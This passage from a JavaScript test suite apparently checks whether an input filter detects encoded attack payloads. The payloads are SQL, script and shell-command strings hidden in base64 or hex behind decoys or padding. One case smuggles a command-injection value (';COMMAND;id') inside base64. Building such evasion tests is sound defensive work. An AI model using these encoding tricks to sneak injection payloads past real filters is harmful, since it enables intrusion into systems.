    text: `${Array.from({ length: 4 }, (_, at) => b64(`Plain words number ${at}, nothing else.`)).join(' ')} ${b64(SQL)} and more`,
  }),
  'coded: base64 in the middle of a run': browserJson('/n', {
    text: `AAAAAAA${b64('x').replace('==', '')}A${b64(`;${COMMAND};id`)}BBBB`,
  }),
  'coded: hex before many digits': browserJson('/n', {
    text: `${Buffer.from(SQL).toString('hex')}${'30'.repeat(700)}`,
  }),
  'coded: base64 before many digits': browserJson('/n', { text: `see ${b64(SCRIPT)} ${'QUJD'.repeat(400)}` }),
  'coded: hex behind four decoys': browserJson('/n', {
    text: `${Array.from({ length: 4 }, (_, at) => Buffer.from(`plain words ${at}`).toString('hex')).join(' ')} ${Buffer.from(COMMAND.repeat(2)).toString('hex')}`,
  }),
};
